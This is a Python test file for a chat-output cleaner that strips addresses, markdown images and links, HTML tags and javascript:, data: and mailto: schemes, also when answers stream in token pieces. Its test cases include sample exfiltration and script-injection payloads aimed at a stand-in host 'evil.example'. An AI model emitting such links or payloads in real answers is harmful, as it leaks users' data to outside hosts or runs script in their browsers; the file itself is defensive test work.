"""Cleaning: no address in an answer, whatever the pieces it comes in."""

import re

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from server.core.chat.cleaning import Cleaner, cleaned

LEAKS = [
    ("![x](https://evil.example/?q=secret)", "x"),
    ("![](http://evil.example/a.png)", ""),
    ("[click here](https://evil.example/c)", "click here"),
    ("[![a](http://b.c/d)](http://e.f)", "a"),
    ("see https://good.example/page?x=1#y now", "see good.example now"),
    ("www.evil.example/x", "evil.example"),
    ("<img src='http://evil.example/x'>", ""),
    ("<a href=javascript:alert(1)>go</a>", "go"),
    ("<svg onload=x>", ""),
    ("data:text/html;base64,AAAA x", " x"),
    ("JavaScript:alert(1) x", " x"),
    ("ftp://h.example/x y", "h.example y"),
    ("[ref]: https://evil.example/track", "[ref] : evil.example"),
    ("![x][r]\n\n[r]: //evil.example/a?q=1", "![x][r]\n\n[r] : //evil.example/a?q=1"),
    ("![x](//evil.example/a(b)?q=1)", "![x] (//evil.example/a(b)?q=1)"),
    ("![x](/\\evil.example/a(b(c)))", "![x] (/\\evil.example/a(b(c)))"),
    (f"![{'x' * 700}](//evil.example/a)", f"![{'x' * 700}] (//evil.example/a)"),
    ("<https:evil.example?q=1> x", "<> x"),
    ("https:/evil.example/x y", " y"),
    ("mailto:a@b.c?body=secret x", " x"),
]

KEPT = [
    "Bars 3 < 4 and 5 > 2 [1][2].",
    "List<String> is a type.",
    "Hello! [1] Really? (yes)",
    "the http of it, a file: here",
    "a [note] and (more)",
    "12:31, or 3:2 in the fugue",
]
PIECES = st.sampled_from(
    ["[", "]", "(", ")", "!", "http", "s://", "x.y", "/z?q=1", " ", "www.", "<img ", "src=", ">",
     "word", "data:", "java", "script:", "\n", "[1]", "é", "]<img x>", "]:", "//h.i/", "mailto:"]
)  # fmt: skip


@pytest.mark.parametrize(("text", "left"), LEAKS)
def test_addresses_are_taken_out(text: str, left: str) -> None:
    """Links, images, tags, plain ones; what they show stays."""
    assert cleaned(text) == left


@pytest.mark.parametrize("text", KEPT)
def test_other_text_stays(text: str) -> None:
    """Citations, signs, code, times."""
    assert cleaned(text) == text


@pytest.mark.parametrize("text", [*KEPT, *(leak for leak, _ in LEAKS)])
@pytest.mark.parametrize("size", [1, 2, 3, 5, 8])
def test_pieces_come_to_the_same(text: str, size: int) -> None:
    """A model's tokens cut an address anywhere."""
    cleaner = Cleaner()
    pieces = [text[at : at + size] for at in range(0, len(text), size)]

    assert "".join(map(cleaner.feed, pieces)) + cleaner.end() == cleaned(text)


@example(["http", "s://", "<img "])
@example(["http", "<img ", ">", "s://", "http"])
@given(st.lists(PIECES, max_size=20))
def test_no_address_ever_comes_through(pieces: list[str]) -> None:
    """However it is put together."""
    cleaner = Cleaner()
    told = "".join(map(cleaner.feed, pieces)) + cleaner.end()

    assert not re.search(r"https?://[a-z]|\]\(https?:|<img [^<>]*>|\bjavascript:\w|\][(:]", told)


def test_plain_words_are_not_held_back() -> None:
    """The first token is shown at once."""
    cleaner = Cleaner()

    assert cleaner.feed("Fugues ") == "Fugues "
    assert cleaner.feed("and 3 voices.") == "and 3 voices."


def test_a_long_text_is_quick() -> None:
    """Brackets without an end hold back a bounded piece, and cost no more than others."""
    cleaner = Cleaner()
    told = "".join(cleaner.feed("[" * 10) for _ in range(2000)) + cleaner.end()

    assert told == "[" * 20_000
